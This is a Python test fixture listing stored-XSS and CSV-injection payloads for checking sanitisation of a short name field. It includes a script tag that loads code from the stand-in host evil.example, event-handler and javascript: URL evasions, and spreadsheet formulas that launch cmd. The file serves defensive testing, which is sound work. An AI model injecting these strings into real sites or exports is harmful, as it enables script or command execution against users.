"""Known stored-XSS payloads, each short enough for a 80-character name field.

Sources of inspiration: the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS
cheat sheet; every string below is written for these tests."""

PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<div style=width:expression(alert(1))>x</div>",
    # Dangerous URLs
    '<a href="javascript:alert(1)">clic</a>',
    '<a href="JaVaScRiPt:alert(1)">clic</a>',
    '<a href="&#106;avascript:alert(1)">clic</a>',
    '<a href=" javascript:alert(1)">clic</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">clic</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Malformed markup and attribute break-outs
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "<img src=`x` onerror=alert(1)>",
    "<<script>alert(1)//<</script>",
    "<img/src=x/onerror=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    # JSON-LD / script-context break-outs and template syntax
    "</script><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>',
    "{{ request.user }}{% debug %}",
    "${alert(1)}`;alert(1);//",
    # Unicode and encoding tricks
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    '<a href="java\tscript:alert(1)">x</a>',
    "\u202e<img src=x onerror=alert(1)>",
    # Spreadsheet formulas (CSV export)
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
